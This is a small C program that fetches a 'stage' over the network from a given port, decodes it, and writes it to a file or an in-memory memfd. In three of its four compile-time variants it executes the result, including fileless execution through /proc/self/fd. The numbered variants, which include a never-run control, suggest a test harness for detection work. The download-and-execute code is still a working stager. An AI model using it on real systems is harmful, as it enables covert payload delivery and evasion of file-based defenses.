// A program comes over the network. INTO: 1 a file that is run, 2 memory that is run, 3 a script for a
// shell, 4 a file that is never run.
#define _GNU_SOURCE
#include <sys/mman.h>

#include "client.h"

int main(int count, char** argument) {
  static char data[1 << 20];
  if (count < 2) return 2;
  long got = ask(atoi(argument[1]), "GET /stage", data, sizeof data);
  if (got <= 0) return 1;
  got = decode(data, got);
#if INTO == 2
  const int f = memfd_create("stage", 0);
#else
  const int f = open("stage", O_CREAT | O_WRONLY | O_TRUNC, 0700);
#endif
  if (f < 0 || write(f, data, (size_t)got) != got) return 1;
#if INTO == 1
  close(f);
  run_program("./stage", "x");
#elif INTO == 2
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", f);
  run_program(path, "x");
#elif INTO == 3
  close(f);
  run_program("./stage", "x");
#else
  close(f);
#endif
  return 0;
}
